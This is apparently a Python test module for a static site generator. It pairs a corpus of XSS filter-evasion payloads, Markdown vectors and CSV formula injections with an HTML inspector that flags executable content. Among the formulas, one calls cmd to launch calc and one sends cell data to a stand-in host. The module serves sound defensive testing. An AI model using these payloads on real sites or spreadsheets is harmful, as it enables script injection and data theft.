"""Hostile content, and an HTML inspector that finds anything executable in a page.

The payloads are classic cross-site-scripting vectors in the style of the OWASP
XSS filter evasion list, written for this project: script elements, event
handlers, ``javascript:``/``data:``/``vbscript:`` URLs hidden by case, entities,
tabs and control characters, frames, objects, forms, SVG and MathML tricks,
``<meta http-equiv=refresh>``, ``<base>``, mutation-XSS shapes, break-outs from
JSON-LD and XML, and spreadsheet formulas for the CSV files. Each payload that
runs would call ``alert`` with its own label, so a browser test can name it.

The inspector reads HTML with html5lib, which parses as browsers do (the
WHATWG algorithm): it sees what a browser would execute, entities decoded and
attributes as parsed, not what a string search would guess.
"""

from __future__ import annotations

import json
import re
import warnings
from collections.abc import Callable
from itertools import count
from typing import Any

from bs4 import BeautifulSoup, Tag, XMLParsedAsHTMLWarning

from wijkgen.parse.documents import CONTROL_CHARACTER

TEXT_PAYLOADS: tuple[str, ...] = (
    '<script>alert("xss-1")</script>',
    '<img src=x onerror=alert("xss-2")>',
    '<svg onload=alert("xss-3")>',
    '<svg><script>alert("xss-4")</script></svg>',
    '"><script>alert("xss-5")</script>',
    "'><img src=x onerror=alert('xss-6')>",
    '</script><script>alert("xss-7")</script>',
    '</title><script>alert("xss-8")</script>',
    '</textarea><script>alert("xss-9")</script>',
    "<iframe src=\"javascript:alert('xss-10')\"></iframe>",
    "<a href=\"javascript:alert('xss-11')\">klik</a>",
    "<a href=\"JaVaScRiPt:alert('xss-12')\">klik</a>",
    "<a href=\"&#106;avascript:alert('xss-13')\">klik</a>",
    "<a href=\"java&#x09;script:alert('xss-14')\">klik</a>",
    "<a href=\" &#14;javascript:alert('xss-15')\">klik</a>",
    "<a href=\"vbscript:msgbox('xss-16')\">klik</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzLTE3Jyk8L3NjcmlwdD4=">klik</a>',
    "<img src=\"data:image/svg+xml,<svg onload=alert('xss-18')>\">",
    "<object data=\"javascript:alert('xss-19')\"></object>",
    "<embed src=\"javascript:alert('xss-20')\">",
    "<style>body{background:url(\"javascript:alert('xss-21')\")}</style>",
    "<div style=\"background-image:url(javascript:alert('xss-22'))\">x</div>",
    "<form action=\"javascript:alert('xss-23')\"><button>Verstuur</button></form>",
    "<button formaction=\"javascript:alert('xss-24')\">x</button>",
    '<math><mtext><table><mglyph><style><img src=x onerror=alert("xss-25")>',
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('xss-26')\">",
    "<base href=\"javascript:alert('xss-27')//\">",
    "<link rel=\"stylesheet\" href=\"javascript:alert('xss-28')\">",
    '<details open ontoggle=alert("xss-29")>',
    '<body onload=alert("xss-30")>',
    "<noscript><p title=\"</noscript><img src=x onerror=alert('xss-31')>\"></noscript>",
    "<svg><a xlink:href=\"javascript:alert('xss-32')\"><text>x</text></a></svg>",
    "<svg><animate attributeName=\"href\" values=\"javascript:alert('xss-33')\"/></svg>",
    '<input autofocus onfocus=alert("xss-34")>',
    '<video><source onerror=alert("xss-35")></video>',
    '<!--<img src="--><img src=x onerror=alert("xss-36")//">',
    '<<script>alert("xss-37");//<</script>',
    '<scr<script>ipt>alert("xss-38")</scr</script>ipt>',
    '\u2028\u2029<script>alert("xss-39")</script>',
    '&lt;script&gt;alert("xss-40")&lt;/script&gt;',
    ']]><script>alert("xss-41")</script>',
    '<![CDATA[<script>alert("xss-42")</script>]]>',
    "<?xml-stylesheet href=\"javascript:alert('xss-43')\"?>",
    "<img src=x:alert(alt) onerror=eval(src) alt='xss-44'>",
    '<a href="#" onclick="alert(&quot;xss-45&quot;)">klik</a>',
    "<iframe srcdoc=\"<script>alert('xss-46')</script>\"></iframe>",
    '{{ 7 * 7 }} {% raw %} ${alert("xss-47")} #{alert("xss-48")}',
    '=HYPERLINK("https://aanval.example/?d="&A1;"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)

# Markdown that turns into something dangerous before the sanitiser sees it.
MARKDOWN_VECTORS: tuple[str, ...] = (
    "[klik](javascript:alert('md-1'))",
    "[klik](JAVASCRIPT:alert('md-2') \"titel\")",
    "[klik](&#x6A;avascript:alert('md-3'))",
    "![plaatje](javascript:alert('md-4'))",
    "[klik][verwijzing]\n\n[verwijzing]: javascript:alert('md-5')",
    "<javascript:alert('md-6')>",
    "## Kop {: onclick=\"alert('md-7')\" }",
    "*[HTML]: <script>alert('md-8')</script>\n\nHTML",
    "Noot[^1]\n\n[^1]: <img src=x onerror=alert('md-9')>",
    "<div markdown=\"1\">*vet* <script>alert('md-10')</script></div>",
    "    <script>alert('md-11')</script>",
    "`<script>alert('md-12')</script>`",
    "[klik](data:text/html,<script>alert('md-13')</script>)",
    "![plaatje](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[klik](vbscript:msgbox('md-15'))",
    "<a href=\"java\tscript:alert('md-16')\">klik</a>",
    "<a href=\"\x01javascript:alert('md-17')\">klik</a>",
    "<h1 onmouseover=\"alert('md-18')\">Kop</h1>",
)

URL_PAYLOADS: tuple[str, ...] = (
    'https://voorbeeld.example/"><script>alert("url-1")</script>',
    "https://voorbeeld.example/'onmouseover='alert(\"url-2\")'",
    'https://voorbeeld.example/</script><script>alert("url-3")</script>',
    'mailto:post@voorbeeld.example?body="><img/src=x/onerror=alert("url-4")>',
    'https://voorbeeld.example/?a=1&b=<svg/onload=alert("url-5")>',
)

EMAIL_PAYLOADS: tuple[str, ...] = (
    '"><script>alert("mail-1")</script>@voorbeeld.example',
    "x'onmouseover='alert(\"mail-2\")'@voorbeeld.example",
    '</script><svg/onload=alert("mail-3")>@voorbeeld.example',
)

# Payloads that are no HTML attack on their own: aimed at other outputs (spreadsheets, XML, template engines),
# pre-escaped text, or broken tags a browser reads as text.
INERT_AS_HTML: frozenset[str] = frozenset(p for p in TEXT_PAYLOADS if p.startswith(
    ("<scr<", "&lt;", "<![CDATA[", "<?xml", "{{", "=", "+", "-", "@")))

HOSTILE_BASE_URL = 'https://wijken.example/"><svg/onload=alert("base-1")>/'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER_LIKE = re.compile(r"^[+-]?[0-9][0-9 ().,/+-]*$")


class HostileFiller:
    """Fills every field of a generated project (see tests/contentgen.py) with attacks."""

    def __init__(self) -> None:
        self._turn = count()

    def text(self, where: str, max_length: int | None) -> str:
        start = next(self._turn) * 7
        ordered = TEXT_PAYLOADS[start % len(TEXT_PAYLOADS):] + TEXT_PAYLOADS[:start % len(TEXT_PAYLOADS)]
        if max_length is None:
            return " ".join(ordered)
        out = ordered[0]
        for payload in ordered[1:]:
            if len(out) + 1 + len(payload) <= max_length:
                out += " " + payload
        return out

    def url(self, where: str) -> str:
        if where == "wijkgen.yaml:basis_url":
            return HOSTILE_BASE_URL
        return URL_PAYLOADS[next(self._turn) % len(URL_PAYLOADS)]

    def email(self, where: str) -> str:
        return EMAIL_PAYLOADS[next(self._turn) % len(EMAIL_PAYLOADS)]

    def markdown(self, where: str) -> str:
        # A raw control character is refused by the loader (see test_control_characters_are_refused), so
        # the vectors that carry one are left out here: the whole corpus must build.
        return "\n\n".join(v for v in (*TEXT_PAYLOADS, *MARKDOWN_VECTORS) if not CONTROL_CHARACTER.search(v))

    def names(self, where: str, count: int) -> list[str]:
        return [f'<img src=x onerror=alert("naam-{i}")>{where.rsplit(".", 1)[-1]} {i}' for i in range(count)]

    def private(self, where: str) -> Any:
        return None


# --- Inspecting HTML ------------------------------------------------------------------------------------

DANGEROUS_SCHEMES = ("javascript:", "data:", "vbscript:")
URL_ATTRIBUTES = frozenset({
    "href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset", "background", "cite",
    "ping", "codebase", "dynsrc", "lowsrc", "longdesc", "manifest", "icon", "profile", "usemap", "archive",
    "classid", "itemtype",
})
# Elements that run code, load other documents, change where links go or how the page behaves.
FORBIDDEN_TAGS = frozenset({
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "style", "meta", "base", "link",
    "form", "input", "button", "textarea", "select", "option", "math", "foreignobject", "animate",
    "animatemotion", "animatetransform", "set", "handler", "listener", "noscript", "template", "portal",
    "xmp", "plaintext", "isindex", "image",
})


def parse(html: str) -> BeautifulSoup:
    """``html`` parsed the way a browser parses it (html5lib implements the WHATWG algorithm)."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", XMLParsedAsHTMLWarning)  # payloads with <?xml …?> are still HTML here
        return BeautifulSoup(html, "html5lib")


def dangerous_url(value: str) -> bool:
    """True when a URL (entities already decoded by the parser) would run code or embed a document."""
    url = re.sub(r"[\t\n\r]", "", re.sub(r"^[\x00-\x20]+", "", value)).lower()
    return url.startswith(DANGEROUS_SCHEMES)


def json_ld_ok(tag: Tag) -> bool:
    """True for a JSON-LD script element holding one valid JSON document and nothing else."""
    if dict(tag.attrs) != {"type": "application/ld+json"}:
        return False
    try:
        json.loads(tag.string or "")
    except ValueError:
        return False
    return True


def findings(soup: BeautifulSoup, theme: Callable[[Tag], bool] = lambda tag: False) -> list[str]:
    """Everything executable or dangerous in a parsed page, except the elements ``theme`` says are the theme's."""
    found: list[str] = []
    for tag in soup.find_all(True):
        name = tag.name.lower()
        if name in FORBIDDEN_TAGS and not theme(tag):
            found.append(f"<{name}> {str(tag)[:120]}")
        for attr, value in tag.attrs.items():
            text = " ".join(value) if isinstance(value, list) else str(value)
            attr = attr.lower()
            if attr.startswith("on") or attr in ("style", "srcdoc"):
                found.append(f"{attr}= on <{name}>: {text[:80]}")
            elif attr in URL_ATTRIBUTES and dangerous_url(text) and not theme(tag):
                found.append(f"{attr}={text[:80]} on <{name}>")
            elif name == "meta" and attr == "http-equiv":
                found.append(f"<meta http-equiv={text}>")
    return found
